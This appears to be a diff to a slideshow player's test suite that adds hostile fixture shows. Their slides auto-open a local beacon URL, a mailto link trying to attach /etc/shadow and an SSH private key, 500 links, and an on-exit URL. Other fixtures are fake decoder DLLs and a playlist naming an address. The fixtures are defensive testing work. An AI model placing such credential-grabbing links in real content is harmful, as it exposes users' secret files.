@@ -180,6 +180,41 @@ void MakeHostileShows(const fs::path& root) {
     show.Main().Key("opt_runapponexit", 1).Key("opt_runapponexitfn", "/usr/bin/touch " + started + "end");
     show.Write();
   }
+  {
+    // Links the show opens on its own: a beacon, a mail that attaches
+    // files, 500 links at once, a link whose name is also a file's, and
+    // one at the end.
+    TShowBuilder show((dir / "links").string());
+    SolidSlides(show, {1000, 2000, 3000, 4000});
+    show.Slide(0).RunApp("http://127.0.0.1:9/beacon?from=show");
+    show.Slide(1).RunApp(
+        "mailto:victim@example.com?subject=hi&attach=/etc/shadow&attachment=file:///root/.ssh/id_rsa");
+    std::string many;
+    for (int i = 0; i < 500; ++i) many += (i ? "," : "") + std::string("http://127.0.0.1:9/") + std::to_string(i);
+    show.Slide(2).RunApp(many);
+    show.Slide(3).RunApp("http:run");
+    show.Main().Key("opt_runapponexit", 1).Key("opt_runapponexitfn", "https://example.org/end");
+    show.Write();
+  }
+  {
+    // A project to pack as a self-playing show: it names both decoder
+    // plug-ins, with entries of its own under those keys.
+    TShowBuilder show((dir / "selfplaying").string());
+    SolidSlides(show);
+    show.Main().Key("opt_oggpath", "codecs\\vorbis.dll").Key("opt_wmapath", "codecs\\wma.dll");
+    show.Write();
+    fs::create_directories(dir / "selfplaying" / "codecs");
+    std::ofstream(dir / "selfplaying" / "codecs" / "vorbis.dll") << "MZ not a library\n";
+    std::ofstream(dir / "selfplaying" / "codecs" / "wma.dll") << "MZ not a library\n";
+  }
+  {
+    // Music whose playlist (written by the test, with its server's port)
+    // names an address.
+    TShowBuilder show((dir / "playlist").string());
+    SolidSlides(show);
+    show.MusicItem("music.m3u8", 3000);
+    show.Write();
+  }
 }
 
 void Make(const fs::path& root) {
